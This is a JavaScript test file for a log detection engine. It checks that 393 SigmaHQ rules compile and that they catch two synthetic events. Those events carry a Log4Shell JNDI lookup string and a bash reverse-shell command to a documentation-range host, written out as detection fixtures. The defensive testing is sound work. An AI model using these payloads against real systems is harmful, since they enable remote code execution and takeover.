// The SigmaHQ rules in ../shared/datasets/sigma (393 Linux, webserver and proxy rules, DRL 1.1) must all load:
// compiled, or rejected only for a named feature that cannot apply here. Skipped where the folder is absent.
import { strict as assert } from 'node:assert';
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { test } from 'node:test';
import { RuleEngine } from './engine.js';
import { makeEvent } from './testing.js';

const root = process.env.VIGIL_DATASETS ?? resolve(fileURLToPath(new URL('../../../..', import.meta.url)), 'shared/datasets');
const sigma = resolve(root, 'sigma');

test('every SigmaHQ rule of the data set compiles', { skip: existsSync(sigma) ? false : `no SigmaHQ rules at ${sigma}` }, async () => {
  const engine = await RuleEngine.load({ dirs: [sigma], watch: false });
  const report = engine.report();
  assert.equal(report.files, 393);
  assert.deepEqual(report.rejected.map((p) => `${p.file}:${p.line} ${p.message}`), []);
  assert.equal(report.compiled, 393);
  // They run: a Log4Shell probe in a user agent and a reverse shell in a sudo command are found.
  const out = engine.process([
    makeEvent({ event: { dataset: 'nginx.access' }, url: { original: '/' }, user_agent: { original: '${jndi:ldap://203.0.113.9/a}' }, http: { request: { method: 'GET' }, response: { status_code: 200 } } }),
    makeEvent({
      event: { dataset: 'sudo', category: ['process'], type: ['start'] },
      message: 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      process: { command_line: '/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
    }),
  ]);
  const titles = out.map((d) => d.source.title);
  assert.ok(titles.some((t) => /log4j|jndi/i.test(t)), titles.join('; '));
  assert.ok(titles.some((t) => /reverse shell|dev\/tcp/i.test(t)), titles.join('; '));
  for (const d of out) assert.ok(d.source.author && d.source.author.length > 0, 'DRL: the author is shown');
});
